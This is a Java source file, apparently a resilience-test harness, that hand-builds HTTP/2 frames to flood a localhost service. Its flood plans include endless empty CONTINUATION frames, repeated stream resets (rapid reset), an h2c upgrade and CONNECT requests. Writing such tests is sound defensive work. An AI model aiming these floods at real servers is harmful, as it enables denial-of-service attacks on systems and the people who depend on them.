package dev.tokensidecar.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.util.Iterator;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Floods of HTTP/2 without TLS (RFC 9113), with prior knowledge and by an upgrade. */
final class Http2Floods {

    private static final int CONNECTIONS = 20;
    private static final int PEERS = 8;
    private static final int FRAMES_PER_PIECE = 100;

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 0x1;
    private static final int END_HEADERS = 0x4;

    /** Static entries of HPACK (RFC 7541 appendix A): GET, http, and the path /. */
    private static final byte[] GET = {(byte) 0x82, (byte) 0x86, (byte) 0x84};
    /** {@code :method: CONNECT} and {@code :authority: a}. */
    private static final byte[] CONNECT = {0x02, 7, 'C', 'O', 'N', 'N', 'E', 'C', 'T', 0x01, 1, 'a'};

    private static final byte[] PREFACE =
            concat("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII), frame(SETTINGS, 0, 0));

    private static final byte[] UPGRADE = String.join(
                    "\r\n",
                    "GET /q/health/live HTTP/1.1",
                    "Host: localhost",
                    "Connection: Upgrade, HTTP2-Settings",
                    "Upgrade: h2c",
                    "HTTP2-Settings: AAMAAABkAAQAAP__",
                    "",
                    "")
            .getBytes(US_ASCII);

    private Http2Floods() {}

    static List<FloodPlan> all() {
        return List.of(
                plan("HTTP/2 with prior knowledge", request()),
                plan("HTTP/2 by an upgrade", concat(UPGRADE, PREFACE, request())),
                FloodPlan.of("empty CONTINUATION frames of HTTP/2", CONNECTIONS, PEERS, number -> continuations()),
                FloodPlan.of("streams of HTTP/2 that are reset", CONNECTIONS, PEERS, number -> resets()),
                plan("CONNECT of HTTP/2", frame(HEADERS, END_HEADERS, 1, CONNECT)));
    }

    private static FloodPlan plan(String name, byte[] bytes) {
        return FloodPlan.of(
                name, CONNECTIONS, PEERS, number -> List.of(PREFACE, bytes).iterator());
    }

    private static byte[] request() {
        return frame(HEADERS, END_HEADERS | END_STREAM, 1, GET);
    }

    private static Iterator<byte[]> continuations() {
        byte[] empty = repeated(frame(CONTINUATION, 0, 1));
        return Stream.concat(Stream.of(PREFACE, frame(HEADERS, 0, 1, GET)), Stream.generate(() -> empty))
                .iterator();
    }

    private static byte[] repeated(byte[] frame) {
        return concat(Stream.generate(() -> frame).limit(FRAMES_PER_PIECE).toArray(byte[][]::new));
    }

    private static Iterator<byte[]> resets() {
        Stream<byte[]> streams = IntStream.iterate(1, stream -> stream + 2)
                .mapToObj(stream ->
                        concat(frame(HEADERS, END_HEADERS, stream, GET), frame(RST_STREAM, 0, stream, 0, 0, 0, 8)));
        return Stream.concat(Stream.of(PREFACE), streams).iterator();
    }

    private static byte[] frame(int type, int flags, int stream, int... payload) {
        byte[] bytes = new byte[payload.length];
        for (int at = 0; at < payload.length; at++) {
            bytes[at] = (byte) payload[at];
        }
        return frame(type, flags, stream, bytes);
    }

    /** RFC 9113 section 4.1. */
    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        byte[] head = {
            0,
            (byte) (payload.length >> 8),
            (byte) payload.length,
            (byte) type,
            (byte) flags,
            (byte) (stream >> 24),
            (byte) (stream >> 16),
            (byte) (stream >> 8),
            (byte) stream
        };
        return concat(head, payload);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }
}
